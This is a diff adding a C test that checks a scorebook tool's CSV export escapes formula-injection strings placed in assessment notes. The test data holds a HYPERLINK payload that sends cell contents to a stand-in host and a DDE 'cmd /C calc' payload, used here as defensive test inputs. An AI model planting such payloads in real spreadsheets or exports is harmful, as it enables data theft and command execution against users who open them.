@@ -281,6 +281,43 @@ test_csv (void)
   g_unlink (out);
 }
 
+/* --export x.csv with formulas in the notes, as a shared assessment may
+ * hold them: each reaches the spreadsheet as text behind a single quote,
+ * in a quoted cell, and the scores beside them stay bare numbers. */
+static void
+test_csv_formulas (void)
+{
+  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-empty.scorebook");
+  g_autofree char *input = tmp_path ("formulas.scorebook");
+  g_autofree char *out = tmp_path ("formulas.csv");
+  g_autoptr(GFile) file = g_file_new_for_path (input);
+  g_autoptr(GError) error = NULL;
+  g_auto(SbTestRun) run = { 0 };
+  g_autofree char *contents = NULL;
+  g_autofree char *expected = NULL;
+
+  g_assert_true (sb_assessment_set_rating (assessment, "1.1.1", "process-4", 70, &error));
+  g_assert_no_error (error);
+  sb_assessment_insert_note (assessment, "1.1.1", SB_NOTE_STRENGTH, 0,
+                             "=HYPERLINK(\"http://example.com/\"&A1,\"Details\")");
+  sb_assessment_insert_note (assessment, "1.1.1", SB_NOTE_OPPORTUNITY, 0, "@SUM(1+1)*cmd|' /C calc'!A0");
+  g_assert_true (sb_assessment_file_save (assessment, file, NULL, &error));
+  g_assert_no_error (error);
+
+  sb_test_run_scorebook (&run, "--export", out, "--lang", "en", input, NULL);
+  g_assert_cmpint (run.status, ==, 0);
+  g_assert_cmpstr (run.err, ==, "");
+  g_assert_true (g_file_get_contents (out, &contents, NULL, NULL));
+  expected = sb_csv_for_assessment (assessment, SB_LANG_EN);
+  g_assert_cmpstr (contents, ==, expected);
+  g_assert_nonnull (strstr (contents, ",70,21,\"'=HYPERLINK(\"\"http://example.com/\"\"&A1,\"\"Details\"\")\","
+                                      "\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"));
+  g_assert_null (strstr (contents, ",="));
+  g_assert_null (strstr (contents, ",@"));
+  g_unlink (out);
+  g_unlink (input);
+}
+
 static gboolean
 is_pdf (const char *path)
 {
@@ -599,6 +636,7 @@ main (int   argc,
   g_test_add_func ("/export/pdf/notes-letter", test_pdf_notes_and_letter);
   g_test_add_func ("/export/pdf/english-fonts", test_pdf_english_fonts);
   g_test_add_func ("/export/csv", test_csv);
+  g_test_add_func ("/export/csv-formulas", test_csv_formulas);
   g_test_add_func ("/export/batch", test_batch);
   g_test_add_func ("/export/usage-errors", test_usage_errors);
   g_test_add_func ("/export/chart/png", test_chart_png);
